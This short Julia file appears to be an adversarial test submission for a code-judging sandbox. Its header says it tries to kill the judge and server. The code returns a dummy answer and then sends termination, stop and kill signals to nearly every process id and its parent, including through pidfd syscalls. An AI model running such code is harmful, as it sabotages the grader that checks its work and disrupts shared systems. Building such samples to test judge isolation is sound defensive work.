# tries: to kill the judge, the server and whatever else it can name | got through if: the worker is another one afterwards
answer(x) = 0
me = ccall(:getpid, Cint, ())
for signal in (15, 19, 9), target in Cint[-1, 0, 2:100..., ccall(:getppid, Cint, ())]
    target == me || ccall(:kill, Cint, (Cint, Cint), target, signal)
    descriptor = ccall(:syscall, Clong, (Clong, Clong, Clong), 434, target, 0)
    descriptor >= 0 && target != me && ccall(:syscall, Clong, (Clong, Clong, Clong, Clong, Clong), 424, descriptor, signal, 0, 0)
end
